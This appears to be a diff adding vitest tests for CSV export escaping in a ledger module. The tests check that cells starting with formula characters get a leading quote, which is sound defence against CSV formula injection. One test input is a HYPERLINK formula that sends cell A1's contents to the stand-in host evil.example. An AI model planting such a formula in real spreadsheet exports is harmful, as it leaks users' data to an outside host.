@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { toCsv } from '../../../src/ledger/csv';
+import { csvCell, toCsv } from '../../../src/ledger/csv';
 
 describe('toCsv', () => {
   it('writes UTF-8 with a BOM, CRLF and every field quoted', () => {
@@ -9,5 +9,31 @@ describe('toCsv', () => {
         ['某局', '含"引号",和逗号\n换行'],
       ]),
     ).toBe('\uFEFF"材料","备注"\r\n"某局","含""引号"",和逗号\n换行"\r\n');
+  });
+});
+
+describe('csvCell', () => {
+  it.each([
+    [
+      '=HYPERLINK("http://evil.example/?"&A1,"点此")',
+      `'=HYPERLINK("http://evil.example/?"&A1,"点此")`,
+    ],
+    ['+1+1', "'+1+1"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', "'\r=1+1"],
+  ])('keeps %j from starting a formula', (value, cell) => {
+    expect(csvCell(value)).toBe(cell);
+  });
+
+  it('leaves ordinary text alone, a formula sign inside it too', () => {
+    for (const value of ['张三', '办公室', '2024-06-30', '1+1=2', '', '——']) {
+      expect(csvCell(value)).toBe(value);
+    }
+  });
+
+  it('is applied to every field of the file', () => {
+    expect(toCsv([['责任领导'], ['=1+1']])).toBe('\uFEFF"责任领导"\r\n"\'=1+1"\r\n');
   });
 });
